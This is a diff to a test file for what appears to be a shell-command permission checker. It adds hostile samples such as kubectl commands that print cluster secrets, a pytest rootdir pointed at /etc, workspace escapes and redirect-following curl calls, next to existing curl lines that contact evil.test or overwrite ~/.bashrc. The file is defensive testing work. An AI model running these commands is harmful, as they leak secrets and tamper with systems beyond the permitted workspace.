@@ -28,6 +28,10 @@ const HOSTILE = [
   // a URL prefix rule is not a host rule
   'curl -s https://api.example.com/x https://evil.test/y', 'curl -s https://api.example.com/x --url https://evil.test', 'curl -s https://api.example.com/x -x http://evil.test:8080',
   'curl -s https://api.example.com.evil.test/x', 'curl -s https://api.example.com/x -k', 'curl -s https://api.example.com/x -K cfg', 'curl -s https://api.example.com/x -o ~/.bashrc',
+  // folders a runner is pointed at outside the workspace (it walks them), secrets a read command prints, redirects
+  'pytest --rootdir=/etc', 'pytest --confcutdir {{OUT}}', 'npm run build --workspace ../other', 'npm test -- --reporter=/tmp/x.js',
+  'kubectl get secret db -o yaml', 'kubectl get pods,secrets -A', 'kubectl -n prod get secrets/db', 'curl -s https://api.example.com/x -L',
+  'curl -s https://api.example.com/x --location-trusted',
   // programs without a spec: paths outside the workspace, output/exec options, URLs no rule names
   'python3 {{OUT}}/secret.txt', 'node --require ./evil.js app.js', 'node -o x app.js', 'node ~/other/app.js', 'node app.js https://evil.test',
 ];
@@ -46,7 +50,8 @@ const HARMLESS = [
   'cat README.md', 'cat -n src/app.ts', 'head -5 README.md', 'tail -n 20 README.md', 'wc -l src/*.ts', 'sort README.md | uniq -c', 'cut -d: -f1 README.md', 'ls -la src',
   'ls -lh --color=auto', 'du -sh src', 'stat README.md', 'file README.md', 'diff README.md docs/guide.md', 'grep -rn export src', 'grep -c x README.md', 'rg -n export src',
   'rg --files', 'for f in src/*.ts; do wc -l "$f"; done', 'echo "$(git log -1 --format=%h)"', 'echo "Today: $(date)"', 'echo $((1+2))', 'find src -name \'*.ts\' -exec wc -l {} +',
-  'tr a-z A-Z < README.md', 'basename src/app.ts', 'dirname src/app.ts',
+  'tr a-z A-Z < README.md', 'basename src/app.ts', 'dirname src/app.ts', 'pytest --rootdir=. tests', 'npm run build --workspace packages/app',
+  'npm test -- --reporter=dot', 'kubectl describe secret db', 'kubectl get configmaps -o yaml',
 ];
 
 describe('closed world: hostile under prefix rules', () => {
